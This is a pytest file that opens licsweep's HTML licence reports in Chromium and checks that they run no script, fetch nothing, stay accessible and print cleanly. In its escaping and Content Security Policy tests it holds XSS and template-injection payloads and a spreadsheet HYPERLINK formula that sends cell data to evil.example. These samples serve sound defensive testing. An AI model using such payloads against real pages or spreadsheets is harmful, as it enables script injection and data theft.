"""The HTML reports in a real Chromium: nothing runs, nothing is fetched, hostile words stay words."""

from dataclasses import dataclass, field, replace

import pytest

from licsweep import reports
from licsweep.position_types import TransitionRow
from licsweep.reports.html import COLUMNS

from .conftest import WRITTEN, find_chromium

KINDS = tuple(reports.KINDS)


@dataclass
class Seen:
    page: object
    console: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


@pytest.fixture
def open_page(browser):
    contexts = []

    def open_page(path, **options) -> Seen:
        context = browser.new_context(viewport={"width": 1400, "height": 900}, **options)
        contexts.append(context)
        seen = Seen(context.new_page())
        seen.page.on("console", lambda message: seen.console.append(message.text))
        seen.page.on("pageerror", lambda error: seen.errors.append(str(error)))
        seen.page.on("request", lambda request: seen.requests.append(request.url))
        seen.page.on("dialog", lambda dialog: (seen.dialogs.append(dialog.message), dialog.dismiss()))
        seen.page.goto(path.as_uri())
        return seen

    yield open_page
    for context in contexts:
        context.close()


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_page_is_quiet_and_whole(given, open_page, tmp_path, kind, scheme):
    report = given.report(kind)
    (path,) = reports.write(report, "html", tmp_path)
    seen = open_page(path, color_scheme=scheme)

    assert (seen.console, seen.errors, seen.dialogs, seen.requests) == ([], [], [], [path.as_uri()])
    page = seen.page
    assert page.locator("html[lang=en]").count() == 1
    assert page.locator("script, img, link, iframe, object, [style], [onerror], [onload]").count() == 0
    links = set(page.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))"))
    beside = {f"licsweep-{other}-2026-11-24.html" for other in KINDS if kind == "index" and other != "index"}
    assert {link for link in links if not link.startswith("#")} == beside
    assert all(page.locator(f'[id="{link[1:]}"]').count() == 1 for link in links - beside), "every link leads somewhere"
    assert page.locator("th:not([scope])").count() == 0
    for table in report.of("page"):
        assert page.locator(f"section[aria-labelledby={table.name}] tr.row").count() == len(table.rows)
        assert page.locator(f"section[aria-labelledby={table.name}] thead th").count() <= COLUMNS
    first = page.locator("main > *").first
    assert "Coverage" in first.inner_text()
    assert "70.0 %" in first.inner_text()
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (background == "rgb(245, 246, 248)") == (scheme == "light"), "the style sheet is in force"


def test_hostile_words_are_text(given, open_page, tmp_path):
    (path,) = reports.write(given.report("usage"), "html", tmp_path)
    page = open_page(path).page
    body = page.locator("body").text_content()  # inner_text leaves out what is not drawn yet
    for words in (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(2)>',
        "{{7*7}}{% raw %}${7*7}",
        "javascript:alert(4)",
        '=HYPERLINK("http://evil.example/?x="&A1,"Core")',
        "acc-\ufffd40.gnp\ufffd.example",
    ):
        assert words in body
    assert "\u202e" not in body
    assert "49" not in page.locator("section[aria-labelledby=lines]").text_content()


def test_statement_and_what_is_not_known(given, open_page, tmp_path):
    (path,) = reports.write(given.report("usage"), "html", tmp_path)
    page = open_page(path).page
    assert "unsigned and cannot be imported" in page.locator("main > aside").inner_text()
    assert page.locator("main > aside").bounding_box()["y"] < 900, "stands on the face of the report"
    unknown = page.locator("section[aria-labelledby=pools] tr.row", has_text="unassigned").inner_text()
    assert unknown.count("not known") == 3


def test_a_pool_leads_to_its_lines(given, open_page, tmp_path):
    (path,) = reports.write(given.report("usage"), "html", tmp_path)
    page = open_page(path, java_script_enabled=True).page
    row = page.locator("section[aria-labelledby=pools] tr.row", has_text="below-buffer")
    row.locator("xpath=following-sibling::tr[1]").locator("summary a").click()
    assert "Count: 7 <script>alert(3)</script>" in page.locator("tr:target").inner_text()
    page.locator("tr:target a").click()
    assert "below-buffer" in page.locator("tr:target").inner_text()


@pytest.mark.parametrize(
    "attack", ["<script>document.title = 'owned'</script>", "<img src=http://evil.example/x onerror=alert(1)>"]
)
def test_policy_holds_even_if_escaping_failed(given, open_page, tmp_path, attack):
    """Negative control of the two tests above: markup put in by force is seen by them, and still does nothing."""
    (path,) = reports.write(given.report("usage"), "html", tmp_path)
    path.write_text(path.read_text("utf-8").replace("</main>", attack + "</main>"), "utf-8")
    seen = open_page(path)
    assert any("Content Security Policy" in text for text in seen.console)
    assert seen.page.title() == "License usage, 2026-11-24"
    assert seen.dialogs == []


def test_prints_with_repeated_headers(given, open_page, tmp_path):
    (path,) = reports.write(given.report("usage"), "html", tmp_path)
    page = open_page(path, color_scheme="dark").page
    page.emulate_media(media="print")
    look = page.locator("thead").first.evaluate("e => getComputedStyle(e).display")
    assert look == "table-header-group"
    assert page.locator("nav").is_hidden()
    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(0, 0, 0)"
    assert not page.evaluate(SIDEWAYS), "no column is cut off on paper"


SIDEWAYS = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
BROKEN = """heads => heads.filter(head => head.scrollWidth > head.clientWidth + 1).map(head => head.textContent)"""


def test_nothing_scrolls_sideways_and_no_heading_breaks(given, open_page, tmp_path):
    steps = tuple(
        TransitionRow(hostname="acc-01.example", step="upgrade-needed", product="C9300-24T", reason="needs a newer one")
        for _ in range(3)
    )
    estate = replace(given.result, transition=steps)
    for kind in KINDS:
        (path,) = reports.write(reports.KINDS[kind](estate, generated_at=WRITTEN), "html", tmp_path)
        page = open_page(path).page
        for width in (1300, 390):
            page.set_viewport_size({"width": width, "height": 900})
            assert (kind, width, page.evaluate(SIDEWAYS)) == (kind, width, 0)
            if width > 1000:
                assert page.locator("thead th").evaluate_all(BROKEN) == []
    page.locator("h1").evaluate("head => head.style.minWidth = '2000px'")
    assert page.evaluate(SIDEWAYS) > 0, "negative control: the measure sees what is too wide"


def test_many_rows_are_few_pages(given, open_page, tmp_path):
    """2,000 devices: every row is in the other formats, the page has the first ones, a print at most 12 pages."""
    result = given.result
    many = [replace(one, hostname=f"box-{n}-{one.hostname}") for n in range(400) for one in result.judgement.instances]
    lines = tuple(replace(one, hostname=f"box-{n}-{one.hostname}") for n in range(400) for one in result.uses)
    states = tuple(replace(one, hostname=f"box-{n}-{one.hostname}") for n in range(400) for one in result.states)
    judgement = replace(result.judgement, instances=tuple(many))
    estate = replace(result, judgement=judgement, uses=lines, states=states)
    for kind in KINDS:
        report = reports.KINDS[kind](estate, generated_at=WRITTEN)
        (path,) = reports.write(report, "html", tmp_path)
        pages = open_page(path).page.pdf(prefer_css_page_size=True).count(b"/Type /Page\n")
        assert (kind, 0 < pages <= 12) == (kind, True)
    assert len(many) >= 2000


@pytest.mark.parametrize(("needed", "outcome"), [("1", pytest.fail.Exception), ("", pytest.skip.Exception)])
def test_a_missing_chromium_is_a_skip_or_a_failure(monkeypatch, needed, outcome):
    monkeypatch.setenv("LICSWEEP_NEED_CHROMIUM", needed)
    with pytest.raises(outcome, match="no Chromium here"):
        find_chromium(which=lambda name: None)
